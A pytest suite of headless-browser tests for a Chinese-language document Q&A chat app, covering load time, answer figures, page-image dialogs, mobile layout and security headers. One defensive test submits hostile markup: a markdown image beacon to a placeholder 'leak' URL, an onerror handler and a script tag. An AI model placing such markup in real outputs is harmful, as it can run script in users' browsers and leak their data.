"""The journeys that matter, in a real headless browser against the real server."""

import os
import re
import time
import urllib.request

import pytest
from chat_server import CHROMIUM, WAIT, ask, headless, serving_chat

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine (apt-get install chromium)"),
]


@pytest.fixture(scope="module")
def chat(sample_index):
    """(address, seconds until the server answered) of a chat on the sample."""
    with serving_chat(sample_index) as served:
        yield served


@pytest.fixture(scope="module")
def browser():
    with headless() as opened:
        yield opened


@pytest.fixture
def page(browser, chat):
    """The first screen, with every request that leaves this machine noted in `page.left`."""
    opened = browser.new_page(viewport={"width": 1200, "height": 900}, locale="zh-CN")
    opened.left = []
    opened.on("request", lambda request: None if request.url.startswith((chat[0], "data:", "blob:")) else opened.left.append(request.url))
    opened.goto(chat[0])
    opened.get_by_test_id("stChatInput").wait_for(timeout=WAIT)
    yield opened
    opened.close()


def test_the_first_screen_is_there_within_five_seconds(browser, chat):
    address, until_server = chat
    if os.getloadavg()[0] > 1.5 * (os.cpu_count() or 1):
        pytest.skip("this machine is busy with other work, times mean nothing")
    started = time.monotonic()
    opened = browser.new_page()
    opened.goto(address)
    opened.get_by_text("可以这样问").wait_for(timeout=WAIT)
    assert time.monotonic() - started < 5
    assert until_server < 20
    opened.close()


def test_a_question_gives_figure_badge_and_page_image(page):
    ask(page, "2026年支出总计是多少")
    answer = page.get_by_test_id("stChatMessage").nth(1)
    figure = answer.get_by_role("heading").inner_text()
    assert re.fullmatch(r"[\d,]+(\.\d+)? 万?元", figure)
    answer.get_by_text("已核对").filter(visible=True).first.wait_for(timeout=WAIT)
    answer.get_by_role("button", name=re.compile("第.*页")).first.click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("img").nth(1).wait_for(timeout=WAIT)
    sizes = [image.evaluate("e => [e.naturalWidth, e.naturalHeight]") for image in dialog.get_by_role("img").all()]
    assert all(width > 500 and height > 100 for width, height in sizes[:2])
    assert figure.split()[0] in dialog.inner_text()


def test_an_example_button_asks(page):
    page.get_by_role("button", name=re.compile("多少|什么|哪个|比重")).first.click()
    page.get_by_test_id("stChatMessage").nth(1).wait_for(timeout=WAIT)
    page.get_by_test_id("stChatMessage").nth(1).get_by_text(re.compile("已核对|由单元格计算|仅见正文")).filter(visible=True).first.wait_for(
        timeout=WAIT
    )


def test_hostile_markup_neither_runs_nor_calls_home(page):
    page.on("dialog", lambda dialog: pytest.fail("a script ran"))
    ask(page, '![x](https://example.invalid/leak?d=1) <img src="https://example.invalid/y" onerror="alert(1)"> <script>alert(1)</script>')
    page.wait_for_timeout(500)
    assert page.left == []
    assert page.get_by_test_id("stChatMessage").locator("img[src*=invalid]").count() == 0


def test_nothing_is_fetched_from_elsewhere_on_the_first_screen(page):
    page.wait_for_timeout(500)
    assert page.left == []


def test_the_page_forbids_strangers_by_header(chat):
    with urllib.request.urlopen(chat[0], timeout=10) as response:
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_narrow_screen_holds_an_answer_without_sideways_scrolling(browser, chat):
    phone = browser.new_page(viewport={"width": 390, "height": 844})
    phone.goto(chat[0])
    phone.get_by_test_id("stChatInput").wait_for(timeout=WAIT)
    ask(phone, "2026年支出总计是多少")
    phone.get_by_text("已核对").filter(visible=True).first.wait_for(timeout=WAIT)
    assert phone.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    phone.close()
